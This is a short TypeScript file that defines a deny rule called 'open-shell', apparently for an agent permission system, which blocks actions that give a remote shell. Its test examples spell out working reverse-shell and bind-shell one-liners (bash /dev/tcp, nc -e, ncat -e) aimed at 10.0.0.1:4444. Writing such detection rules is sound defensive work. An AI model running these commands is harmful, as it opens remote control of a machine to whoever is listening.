// The rule open-shell.
import { rule } from '../define.ts'
import { givesShell } from '../reach.ts'

export default rule('open-shell', {
  on: ['connect'],
  when: (effect, sight) => effect.shell === true || givesShell(effect, sight),
  decision: 'deny',
  risk: 'high',
  pinned: true,
  reason: 'it gives a shell on this machine to whoever is on the other side',
  instead: 'reach the goal in another way, or ask the user how',
  examples: {
    hits: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'ncat -lvp 4444 -e /bin/bash'],
    misses: ['nc -z localhost 3000', 'curl http://localhost:3000'],
  },
})
